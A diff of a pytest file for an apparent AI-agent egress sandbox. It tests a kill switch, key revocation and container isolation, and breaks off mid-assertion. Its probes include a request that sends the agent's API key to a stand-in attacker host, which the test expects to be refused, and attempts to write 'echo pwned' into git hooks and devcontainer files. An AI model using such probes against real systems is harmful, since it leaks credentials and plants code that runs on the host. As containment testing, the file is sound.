@@ -10,6 +10,8 @@ containers/). Skipped — loudly — only where no Docker engine can be started.
 
 from __future__ import annotations
 
+import contextlib
+import hashlib
 import http.server
 import json
 import os
@@ -21,6 +23,7 @@ import subprocess
 import tempfile
 import threading
 import time
+import urllib.parse
 import warnings
 from collections.abc import Iterator
 from pathlib import Path
@@ -28,13 +31,15 @@ from typing import NoReturn
 
 import pytest
 import yaml
-from click.testing import CliRunner
+from click.testing import CliRunner, Result
 from docker_support import AGENT_IMAGE, REPO, Dockerd, DockerUnavailable, agent_site, log
 from support.proxy import RunningProxy, write_config
 from support.upstream import Upstream
 
+from egress_guard import docker_kill
+from egress_guard import keys as keys_mod
 from egress_guard.cli import main
-from egress_guard.docker_kill import kill_containers
+from egress_guard.config import load_config
 
 PROBE = r"""
 import json, os, socket
@@ -264,21 +269,64 @@ def test_kill_sigkills_the_agents_labelled_containers_within_a_second(engine: Do
     assert not engine.state(ids["b"])["Running"] and engine.state(ids["other"])["Running"]
 
 
-def test_kill_without_a_docker_engine_revokes_the_keys_and_says_so_only_with_v(tmp_path: Path) -> None:
+def kill_cli(config: Path, *args: str, **env: str | None) -> Result:
+    return CliRunner().invoke(main, ["kill", "--config", str(config), *args], env=env)
+
+
+def researcher_config(tmp_path: Path) -> Path:
     config = write_config(
         tmp_path, {"allowlists": ["openai"], "services": ["openai"], "agents": {"researcher": {"services": ["openai"]}}}
     )
     agent_env(config.path)
-    nowhere = f"unix://{tmp_path}/no-docker.sock"
-    quiet = CliRunner().invoke(
-        main, ["kill", "--config", str(config.path), "--agent", "researcher"], env={"DOCKER_HOST": nowhere}
+    assert keys_mod.list_keys(config)
+    return config.path
+
+
+def active_keys(config: Path) -> list[dict]:
+    return keys_mod.list_keys(load_config(config))
+
+
+def test_kill_without_a_docker_engine_revokes_the_keys_and_says_no_engine_was_asked(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Nothing names an engine and the default socket is absent: the keys only, and one line
+    says no engine was asked (not only with -v)."""
+    config = researcher_config(tmp_path)
+    monkeypatch.setattr(docker_kill, "DEFAULT_HOST", f"unix://{tmp_path}/no-docker.sock")
+    result = kill_cli(config, "--agent", "researcher", DOCKER_HOST=None, DOCKER_CONTEXT=None, HOME=str(tmp_path))
+    assert result.exit_code == 0, result.output
+    assert result.stdout == "revoked 1 key(s) of agent researcher\n"
+    assert "containers: no Docker engine was asked" in result.stderr and "no-docker.sock" in result.stderr
+
+
+@pytest.mark.parametrize(
+    ("env", "expect"),
+    [
+        ({"DOCKER_HOST": "unix://{tmp}/no-docker.sock"}, "no Docker engine answers at unix://"),
+        ({"DOCKER_HOST": "ssh://admin@build-host"}, "is neither unix:// nor tcp://"),
+        ({"DOCKER_HOST": "tcp://127.0.0.1:2376", "DOCKER_TLS_VERIFY": "1"}, "needs TLS"),
+        ({"DOCKER_CONTEXT": "remote"}, "no Docker engine answers at unix://{tmp}/ctx.sock (No such file"),
+    ],
+    ids=["unreachable", "ssh", "tls", "context"],
+)
+def test_kill_fails_closed_when_the_engine_named_cannot_be_asked(
+    tmp_path: Path, env: dict[str, str], expect: str
+) -> None:
+    """DOCKER_HOST (or a docker context) names an engine the kill switch cannot ask: the keys
+    are revoked first all the same, then the failure is named and the exit status is 1."""
+    config = researcher_config(tmp_path)
+    meta = tmp_path / ".docker" / "contexts" / "meta" / hashlib.sha256(b"remote").hexdigest()
+    meta.mkdir(parents=True)
+    (meta / "meta.json").write_text(
+        json.dumps({"Name": "remote", "Endpoints": {"docker": {"Host": f"unix://{tmp_path}/ctx.sock"}}})
     )
-    assert quiet.exit_code == 0 and quiet.output == "revoked 1 key(s) of agent researcher\n"
-    loud = CliRunner().invoke(
-        main, ["kill", "--config", str(config.path), "--agent", "researcher", "-v"], env={"DOCKER_HOST": nowhere}
-    )
-    assert loud.exit_code == 0 and "no Docker engine at" in loud.stderr
-    assert kill_containers(agent="researcher", host=nowhere).unreachable
+    env = {k: v.format(tmp=tmp_path) for k, v in env.items()}
+    result = kill_cli(config, "--agent", "researcher", HOME=str(tmp_path), **{"DOCKER_HOST": None, **env})
+    assert result.exit_code == 1, result.output
+    assert result.stdout == "revoked 1 key(s) of agent researcher\n"
+    assert "egress-guard: containers not killed: " in result.stderr
+    assert expect.format(tmp=tmp_path) in result.stderr, result.stderr
+    assert active_keys(config) == []
 
 
 def test_compose_file_is_valid_and_keeps_the_agent_off_the_network() -> None:
@@ -292,8 +340,78 @@ def test_compose_file_is_valid_and_keeps_the_agent_off_the_network() -> None:
     agent = spec["services"]["agent"]
     assert agent["network_mode"] == "none" and agent["cap_drop"] == ["ALL"] and agent["user"] == "10002:10002"
     assert agent["labels"]["egress-guard.agent"] == "agent" and agent["init"] is True
+    assert agent["labels"]["egress-guard.session"] == "compose"  # `kill --session` finds it
+    assert spec["services"]["egress-guard"]["environment"]["EG_SESSION"] == "compose"  # the keys' session
+    assert agent["read_only"] is True and agent["pids_limit"] == 512 and agent["mem_limit"] in ("2g", 2147483648)
     assert not any("egress-data" in str(v) for v in agent.get("volumes", [])), "the agent never mounts /data"
     assert "OPENAI_API_KEY" not in agent.get("environment", {})
+
+
+DEVCONTAINER_PROBE = r"""
+import os
+for path in (".devcontainer/agent.env", ".devcontainer/devcontainer.json", ".git/hooks/pre-commit",
+             "/run/egress-guard/x", "notes.txt"):
+    try:
+        with open(path, "a") as f:
+            f.write("echo pwned\\n")
+        print("write", path, "ok")
+    except OSError as e:
+        print("write", path, "errno", e.errno)
+print("session", os.environ.get("EGRESS_GUARD_SESSION"))
+"""
+
+
+def test_devcontainer_keeps_the_agent_off_the_hosts_devcontainer_and_git(engine: Dockerd, tmp_path: Path) -> None:
+    """containers/devcontainer/devcontainer.json's runArgs and mounts, run as `docker run`: the
+    agent writes the workspace but not .devcontainer/ (initializeCommand runs on the host)
+    nor .git/ (hooks run on the host) nor /run/egress-guard; the container carries the
+    session label the keys were minted for."""
+    text = (REPO / "containers" / "devcontainer" / "devcontainer.json").read_text()
+    spec = json.loads("\n".join(line for line in text.splitlines() if not line.lstrip().startswith("//")))
+    workspace, home, shared = tmp_path / "proj", tmp_path / "home", tmp_path / "run"
+    for d in (workspace / ".devcontainer", workspace / ".git" / "hooks", home / ".egress-guard" / "certs", shared):
+        d.mkdir(parents=True)
+    for name in ("egress-guard-ca.pem", "ca-bundle.pem"):
+        (home / ".egress-guard" / "certs" / name).write_text("")
+    (workspace / ".devcontainer" / "agent.env").write_text("EGRESS_GUARD_SESSION=devcontainer-proj\n")
+    (workspace / ".devcontainer" / "agent.env").chmod(0o666)
+    for d in (workspace, workspace / ".devcontainer", workspace / ".git" / "hooks", shared):
+        d.chmod(0o777)  # the agent (uid 10002) could write them, were they not mounted read-only
+
+    def subst(value: str) -> str:
+        return (
+            value.replace("${localWorkspaceFolderBasename}", workspace.name)
+            .replace("${localWorkspaceFolder}", str(workspace))
+            .replace("${localEnv:HOME}", str(home))
+            .replace("source=/run/egress-guard,", f"source={shared},")
+        )
+
+    assert "--session devcontainer-${localWorkspaceFolderBasename}" in spec["initializeCommand"]
+    args = [subst(a) for a in spec["runArgs"]]
+    for mount in [*spec["mounts"], spec["workspaceMount"]]:
+        args += ["--mount", subst(mount)]
+    container = engine.docker(
+        "run", "-d", *args, "--user", "10002:10002", "-w", spec["workspaceFolder"], "--entrypoint", "python3",
+        AGENT_IMAGE, "-c", DEVCONTAINER_PROBE,
+    ).stdout.strip()  # fmt: skip
+    try:
+        assert engine.docker("wait", container, timeout=60).stdout.strip() == "0"
+        out = engine.docker("logs", container).stdout
+        log(f"devcontainer: {out.strip()}")
+        labels = json.loads(engine.docker("inspect", "-f", "{{json .Config.Labels}}", container).stdout)
+    finally:
+        engine.docker("rm", "-f", container)
+    for path in (
+        ".devcontainer/agent.env",
+        ".devcontainer/devcontainer.json",
+        ".git/hooks/pre-commit",
+        "/run/egress-guard/x",
+    ):
+        assert f"write {path} errno 30" in out, out  # EROFS
+    assert "write notes.txt ok" in out and (workspace / "notes.txt").exists()
+    assert not (workspace / ".git" / "hooks" / "pre-commit").exists()
+    assert "session devcontainer-proj" in out
+    assert labels["egress-guard.agent"] == "agent" and labels["egress-guard.session"] == "devcontainer-proj"
 
 
 COMPOSE_PROBE = r"""
@@ -304,7 +422,14 @@ try:
     print("direct: connected")
 except OSError as e:
     print("direct: errno", e.errno)
-print("fake key", os.environ.get("OPENAI_API_KEY", "")[:8], "agent", os.environ.get("EGRESS_GUARD_AGENT"))
+print("fake key", os.environ.get("OPENAI_API_KEY", "")[:8], "agent", os.environ.get("EGRESS_GUARD_AGENT"),
+      "session", os.environ.get("EGRESS_GUARD_SESSION"))
+for d in ("/home/agent", "/tmp"):
+    try:
+        open(d + "/probe", "w").close()
+        print("write", d, "ok")
+    except OSError as e:
+        print("write", d, "errno", e.errno)
 for url in ("https://evil.example/", "https://api.openai.com/v1/models"):
     req = urllib.request.Request(url, headers={"Authorization": "Bearer " + os.environ.get("OPENAI_API_KEY", "")})
     try:
@@ -342,7 +467,7 @@ def test_compose_file_runs_agent_without_network_through_egress_guard(engine: Do
         "docker-compose", "-p", "egtest", "-f", str(REPO / "containers" / "compose.yaml"),
         "-f", str(tmp_path / "override.yaml"),
     ]  # fmt: skip
-    env = {**engine.env, "OPENAI_API_KEY": ""}
+    env = {**engine.env, "OPENAI_API_KEY": "", "EG_SESSION": "egtest-7"}
 
     def run(*args: str, timeout: float = 120) -> subprocess.CompletedProcess[str]:
         return subprocess.run([*compose, *args], env=env, capture_output=True, text=True, timeout=timeout)
@@ -360,7 +485,10 @@ def test_compose_file_runs_agent_without_network_through_egress_guard(engine: Do
         rows = json.loads(audit.stdout)
         log(f"compose audit: {[(r['host'], r['decision'], r['status'], r['agent'], r['reason']) for r in rows]}")
         assert "interfaces ['lo'] uid 10002" in out and "direct: errno 101" in out
-        assert "agent agent" in out and "fake key sk-" in out
+        assert "agent agent session egtest-7" in out and "fake key sk-" in out
+        assert "write /home/agent errno 30" in out and "write /tmp ok" in out  # read_only, tmpfs /tmp
+        labels = json.loads(engine.docker("inspect", "-f", "{{json .Config.Labels}}", agent).stdout)
+        assert labels["egress-guard.session"] == "egtest-7" and labels["egress-guard.agent"] == "agent"
         assert "Tunnel connection failed: 403" in out  # evil.example: egress-guard refused it
         # api.openai.com: TLS with egress-guard's CA (shared next to the socket), the fake key
         # names the agent; the test engine has no way out, so egress-guard cannot resolve it
@@ -429,9 +557,10 @@ class _Engine(socketserver.ThreadingMixIn, socketserver.UnixStreamServer):
     daemon_threads = True
 
 
-def test_kill_says_so_and_exits_1_when_the_engine_will_not_kill(tmp_path: Path) -> None:
-    """An engine that lists the agent's container but refuses to kill it: the keys are
-    revoked all the same, the failure is named, the exit status is 1, the record notes it."""
+@contextlib.contextmanager
+def fake_engine(path: Path, containers: list[dict], kill_status: int = 204) -> Iterator[str]:
+    """A Docker Engine API stand-in on a Unix socket: lists `containers` by label filter;
+    answers every kill with `kill_status`. Yields its DOCKER_HOST."""
 
     class Handler(http.server.BaseHTTPRequestHandler):
         def address_string(self) -> str:
@@ -441,7 +570,7 @@ def test_kill_says_so_and_exits_1_when_the_engine_will_not_kill(tmp_path: Path) 
             pass
 
         def _send(self, status: int, body: object) -> None:
-            data = json.dumps(body).encode()
+            data = json.dumps(body).encode() if body is not None else b""
             self.send_response(status)
             self.send_header("Content-Type", "application/json")
             self.send_header("Content-Length", str(len(data)))
@@ -449,22 +578,51 @@ def test_kill_says_so_and_exits_1_when_the_engine_will_not_kill(tmp_path: Path) 
             self.wfile.write(data)
 
         def do_GET(self) -> None:
-            assert "egress-guard.agent%3Dresearcher" in self.path
-            self._send(200, [{"Id": "f" * 64, "Names": ["/stuck"], "Labels": {"egress-guard.agent": "researcher"}}])
+            query = urllib.parse.parse_qs(urllib.parse.urlsplit(self.path).query)
+            key, _, value = json.loads(query["filters"][0])["label"][0].partition("=")
+            self._send(200, [c for c in containers if c["Labels"].get(key) == value])
 
         def do_POST(self) -> None:
-            self._send(500, {"message": "cannot kill container: permission denied"})
+            body = {"message": "cannot kill container: permission denied"} if kill_status >= 400 else None
+            self._send(kill_status, body)
 
-    config = write_config(tmp_path, {"allowlists": ["openai"], "services": ["openai"], "agents": {"researcher": {"services": ["openai"]}}})  # fmt: skip
-    agent_env(config.path)
-    path = tmp_path / "d.sock"
     server = _Engine(str(path), Handler)
     threading.Thread(target=server.serve_forever, daemon=True).start()
     try:
-        result = CliRunner().invoke(main, ["kill", "--config", str(config.path), "--agent", "researcher"], env={"DOCKER_HOST": f"unix://{path}"})  # fmt: skip
+        yield f"unix://{path}"
     finally:
         server.shutdown()
         server.server_close()
+
+
+def test_kill_session_says_so_when_the_agents_containers_lack_the_session_label(tmp_path: Path) -> None:
+    """`kill --session S` finds no container labelled with S, but S's agent has running
+    containers (started without the session label): the output says they were not killed."""
+    config = write_config(tmp_path, {"allowlists": ["openai"], "services": ["openai"], "agents": {"researcher": {"services": ["openai"]}}})  # fmt: skip
+    session = agent_env(config.path)["EGRESS_GUARD_SESSION"]
+    box = {"Id": "a" * 64, "Names": ["/box"], "Labels": {"egress-guard.agent": "researcher"}}
+    with fake_engine(tmp_path / "d.sock", [box]) as host:
+        result = kill_cli(config.path, "--session", session, DOCKER_HOST=host)
+    assert result.exit_code == 0, result.output
+    assert (
+        f"containers: none labelled egress-guard.session={session}; running container(s) of researcher without it "
+        "were NOT killed: box (aaaaaaaaaaaa)" in result.stderr
+    ), result.stderr
+    labelled = {**box, "Labels": {**box["Labels"], "egress-guard.session": session}}
+    with fake_engine(tmp_path / "d2.sock", [labelled]) as host:
+        result = kill_cli(config.path, "--session", session, DOCKER_HOST=host)
+    assert result.exit_code == 0 and "killed container box (aaaaaaaaaaaa) (SIGKILL)" in result.stdout, result.output
+    assert "NOT killed" not in result.stderr
+
+
+def test_kill_says_so_and_exits_1_when_the_engine_will_not_kill(tmp_path: Path) -> None:
+    """An engine that lists the agent's container but refuses to kill it: the keys are
+    revoked all the same, the failure is named, the exit status is 1, the record notes it."""
+    config = write_config(tmp_path, {"allowlists": ["openai"], "services": ["openai"], "agents": {"researcher": {"services": ["openai"]}}})  # fmt: skip
+    agent_env(config.path)
+    stuck = {"Id": "f" * 64, "Names": ["/stuck"], "Labels": {"egress-guard.agent": "researcher"}}
+    with fake_engine(tmp_path / "d.sock", [stuck], kill_status=500) as host:
+        result = kill_cli(config.path, "--agent", "researcher", DOCKER_HOST=host)
     assert result.exit_code == 1
     assert "revoked 1 key(s) of agent researcher" in result.stdout
     assert (
